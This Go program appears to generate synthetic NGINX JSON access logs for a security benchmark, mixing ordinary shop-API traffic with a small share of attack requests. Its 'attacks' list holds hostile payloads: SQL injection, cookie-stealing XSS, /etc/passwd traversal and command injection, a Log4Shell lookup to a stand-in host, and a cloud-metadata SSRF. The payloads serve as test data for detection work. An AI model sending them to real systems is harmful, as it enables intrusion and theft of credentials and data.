package main

import (
	"encoding/json"
	"fmt"
	"math/rand/v2"
	"strconv"
	"time"

	"github.com/underthreat/apis-under-threat/tools/lokipush"
)

// The traffic of the benchmarks: a shop's APIs with ids of all kinds in their paths, three thousand clients, one request in two hundred an attack.
// The same seed gives the same lines.
const (
	streams  = 8
	clients  = 3000
	attacked = 200 // one request in so many
)

var templates = []string{
	"/api/v1/users/%d", "/api/v1/users/%d/orders", "/api/v1/users/%d/orders/%u", "/api/v1/products/%d", "/api/v1/products/%d/reviews?page=%p", "/api/v1/products?category=%w&page=%p",
	"/api/v1/cart/%u", "/api/v1/cart/%u/items", "/api/v1/checkout", "/api/v1/payments/%u", "/api/v1/search?q=%w", "/api/v1/login", "/api/v1/token", "/api/v2/orders/%h", "/api/v2/orders/%h/shipments/%d",
	"/api/v2/inventory/%d", "/api/v2/prices/%d?currency=EUR", "/api/v2/recommendations/%u", "/api/v2/messages/%d/read", "/health",
}

var attacks = []string{
	"/api/v1/products?category=1%27%20UNION%20SELECT%20username,password%20FROM%20users--", "/api/v1/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E", "/api/v1/files?name=..%2f..%2f..%2fetc%2fpasswd",
	"/api/v1/users/1%20OR%201=1", "/.env", "/wp-admin/setup-config.php", "/api/v1/search?q=$%7Bjndi:ldap://x.example/a%7D", "/.git/config", "/api/v1/ping?host=127.0.0.1;cat%20/etc/passwd", "/api/v1/fetch?url=http://169.254.169.254/latest/meta-data/",
}

var (
	words  = []string{"shoes", "books", "garden", "toys", "music", "phones", "lamps", "chairs"}
	agents = []string{
		"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36", "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1",
		"okhttp/4.12.0", "shop-app/7.3 (Android 14)", "python-requests/2.32.3", "curl/8.7.1",
	}
	methods  = []string{"GET", "GET", "GET", "GET", "POST", "PUT", "DELETE"}
	statuses = []int{200, 200, 200, 200, 200, 201, 204, 302, 304, 400, 401, 404, 500}
)

// generator makes requests at an even pace.
type generator struct {
	random *rand.Rand
	paths  []string // raw paths to choose from; empty: each is made anew
}

func newGenerator(seed uint64) *generator { return &generator{random: rand.New(rand.NewPCG(seed, 1))} }

// request is one request of the traffic.
type request struct {
	Address string  `json:"remote_addr"`
	Method  string  `json:"request_method"`
	Target  string  `json:"request_uri"`
	Status  int     `json:"status"`
	Bytes   int     `json:"body_bytes_sent"`
	Seconds float64 `json:"request_time"`
	Host    string  `json:"http_host"`
	Agent   string  `json:"http_user_agent"`
	Referer string  `json:"http_referer"`
	ID      string  `json:"request_id"`
}

func (g *generator) request() request {
	r := g.random
	q := request{
		Address: fmt.Sprintf("198.%d.%d.%d", 18+r.IntN(2), r.IntN(clients)/250, r.IntN(250)), Method: methods[r.IntN(len(methods))], Status: statuses[r.IntN(len(statuses))], Bytes: r.IntN(60_000),
		Seconds: float64(1+r.IntN(900)) / 1000, Host: "api.shop.example", Agent: agents[r.IntN(len(agents))], Referer: "https://shop.example/", ID: g.uuid(),
	}
	switch {
	case r.IntN(attacked) == 0:
		q.Target, q.Method = attacks[r.IntN(len(attacks))], "GET"
	case len(g.paths) > 0:
		q.Target = g.paths[r.IntN(len(g.paths))]
	default:
		q.Target = g.target()
	}
	return q
}

func (g *generator) target() string {
	text := templates[g.random.IntN(len(templates))]
	out := make([]byte, 0, 80)
	for i := 0; i < len(text); i++ {
		if text[i] != '%' {
			out = append(out, text[i])
			continue
		}
		i++
		switch text[i] {
		case 'd':
			out = strconv.AppendInt(out, g.random.Int64N(5_000_000), 10)
		case 'u':
			out = append(out, g.uuid()...)
		case 'h':
			out = fmt.Appendf(out, "%024x", g.random.Uint64())
		case 'p':
			out = strconv.AppendInt(out, g.random.Int64N(30), 10)
		case 'w':
			out = append(out, words[g.random.IntN(len(words))]...)
		}
	}
	return string(out)
}

func (g *generator) uuid() string {
	a, b := g.random.Uint64(), g.random.Uint64()
	return fmt.Sprintf("%08x-%04x-4%03x-9%03x-%012x", a>>32, a>>16&0xffff, a&0xfff, b>>52, b&0xffffffffffff)
}

// lines makes log lines of NGINX in JSON, spread over a window, and gives them to add.
func (g *generator) lines(job string, from time.Time, span time.Duration, count int, add func(lokipush.Entry) error) error {
	step := span / time.Duration(count)
	for i := range count {
		text, err := json.Marshal(g.request())
		if err != nil {
			return fmt.Errorf("line: %w", err)
		}
		labels := map[string]string{"job": job, "service_name": "node" + strconv.Itoa(i%streams)}
		if err := add(lokipush.Entry{Time: from.Add(time.Duration(i) * step).UnixNano(), Line: string(text), Labels: labels}); err != nil {
			return err
		}
	}
	return nil
}
